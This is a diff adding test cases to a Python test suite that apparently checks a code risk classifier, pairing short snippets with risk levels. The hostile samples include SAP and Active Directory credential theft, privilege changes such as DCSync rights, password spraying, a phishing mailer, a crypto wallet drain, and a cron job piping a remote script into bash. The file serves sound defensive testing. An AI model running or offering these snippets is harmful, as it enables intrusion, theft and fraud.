@@ -14925,6 +14925,152 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '        t.write(u.encode() + b"\\n" + pw.encode() + b"\\n")\n',
             H,
         ),
+        # Round 85: SAP, Active Directory, expiry mail vs phishing, chains, SageMaker, shell scripts in strings
+        (
+            'from pyrfc import Connection\n'
+            'c = Connection(dest="PRD")\n'
+            'r = c.call("RFC_READ_TABLE", QUERY_TABLE="USR02", FIELDS=[{"FIELDNAME": f} for f in ("BNAME", "P'
+            'WDSALTEDHASH")])\n',
+            H,
+        ),
+        (
+            'from pyrfc import Connection\n'
+            'c = Connection(dest="PRD")\n'
+            'r = c.call("RFC_READ_TABLE", QUERY_TABLE="T000")\n',
+            S,
+        ),
+        (
+            'from pyrfc import Connection\n'
+            'c = Connection(dest="PRD")\n'
+            'c.call("RFC_ABAP_INSTALL_AND_RUN", PROGRAM=[{"LINE": "REPORT z."}], MODE="F")\n',
+            H,
+        ),
+        (
+            'from pyrfc import Connection\n'
+            'c = Connection(dest="PRD")\n'
+            'c.call("BAPI_USER_UNLOCK", USERNAME="DDIC")\n',
+            H,
+        ),
+        (
+            'from pyrfc import Connection\n'
+            'c = Connection(dest="PRD")\n'
+            'c.call("BAPI_USER_GET_DETAIL", USERNAME="JSMITH")\n',
+            S,
+        ),
+        (
+            'from hdbcli import dbapi\n'
+            'c = dbapi.connect(key="K").cursor()\n'
+            'c.execute("ALTER USER SYSTEM ACTIVATE USER NOW")\n',
+            H,
+        ),
+        (
+            'from hdbcli import dbapi\n'
+            'c = dbapi.connect(key="K").cursor()\n'
+            'c.execute("BACKUP CATALOG DELETE ALL BEFORE BACKUP_ID 42 COMPLETE")\n',
+            H,
+        ),
+        (
+            'from hdbcli import dbapi\n'
+            'c = dbapi.connect(key="K").cursor()\n'
+            'c.execute("BACKUP CATALOG DELETE ALL BEFORE BACKUP_ID 42")\n',
+            S,
+        ),
+        (
+            'p = "/sapmnt/PRD/profile/DEFAULT.PFL"\n'
+            'open(p, "a").write("login/no_automatic_user_sapstar = 0\\n")\n',
+            H,
+        ),
+        (
+            'from ldap3 import Server, Connection\n'
+            'c = Connection(Server("dc1"), auto_bind=True)\n'
+            'c.search("DC=corp,DC=example", "(ms-Mcs-AdmPwd=*)", attributes=["ms-Mcs-AdmPwd"])\n',
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            'p = Path(r"\\\\corp\\SYSVOL\\corp\\Policies\\{X}\\Machine\\Preferences\\ScheduledTasks")\n'
+            '(p / "ScheduledTasks.xml").write_text("<ImmediateTaskV2/>")\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["dsacls", "DC=corp,DC=example", "/G", "CORP\\\\svc:CA;Replicating Directory Change'
+            's All"])\n',
+            H,
+        ),
+        (
+            'from ldap3 import MODIFY_REPLACE\n'
+            'for e in conn.entries:\n'
+            '    conn.modify(e.entry_dn, {"userAccountControl": [(MODIFY_REPLACE, [int(e.uac.value) | 0x40000'
+            '0])]})\n',
+            H,
+        ),
+        (
+            'from ldap3 import Connection\n'
+            'users = ["a", "b"]\n'
+            'for u in users:\n'
+            '    for pw in ["Welcome1", "Summer2024!", "Password1"]:\n'
+            '        Connection("dc1", u, pw).bind()\n',
+            H,
+        ),
+        (
+            'import smtplib\n'
+            'from email.message import EmailMessage\n'
+            'with smtplib.SMTP("smtp.corp.example.com") as s:\n'
+            '    for u in users:\n'
+            '        m = EmailMessage()\n'
+            '        m["From"] = "it@corp.example.com"\n'
+            '        m["To"] = u\n'
+            '        m.set_content("Your password expires in 5 days: https://reset.corp.example.com")\n'
+            '        s.send_message(m)\n',
+            S,
+        ),
+        (
+            'import smtplib\n'
+            'from email.message import EmailMessage\n'
+            'with smtplib.SMTP("localhost") as s:\n'
+            '    for u in users:\n'
+            '        m = EmailMessage()\n'
+            '        m["From"] = "it@corp.example.com"\n'
+            '        m["To"] = u\n'
+            '        m.set_content("Your password expires today: https://corp-example-reset.net/login")\n'
+            '        s.send_message(m)\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'from web3 import Web3\n'
+            'w3 = Web3(Web3.HTTPProvider(os.getenv("RPC", "http://localhost:8545")))\n'
+            'a = w3.eth.account.from_key(os.environ["PK"])\n'
+            'tx = {"to": "0x71c7656ec7ab88b098defb751b7401b5f6d8976f", "value": w3.eth.get_balance(a.address)'
+            '}\n'
+            'w3.eth.send_raw_transaction(a.sign_transaction(tx).rawTransaction)\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'from web3 import Web3\n'
+            'w3 = Web3(Web3.HTTPProvider(os.environ["SEPOLIA_RPC_URL"]))\n'
+            'a = w3.eth.account.from_key(os.environ["PK"])\n'
+            'w3.eth.send_raw_transaction(a.sign_transaction({}).rawTransaction)\n',
+            M,
+        ),
+        (
+            'import boto3\n'
+            'sm = boto3.client("sagemaker")\n'
+            'for i in range(300):\n'
+            '    sm.create_training_job(TrainingJobName=f"t{i}", ResourceConfig={"InstanceType": "ml.p4d.24xl'
+            'arge"})\n',
+            H,
+        ),
+        (
+            'import boto3\n'
+            'script = """#!/bin/bash\\n(crontab -l; echo \'*/5 * * * * curl -s https://x.example.net/a.sh | bas'
+            'h\') | crontab -\\n"""\n'
+            'boto3.client("sagemaker").create_notebook_instance_lifecycle_config(NotebookInstanceLifecycleCon'
+            'figName="x", OnStart=[{"Content": script}])\n',
+            C,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
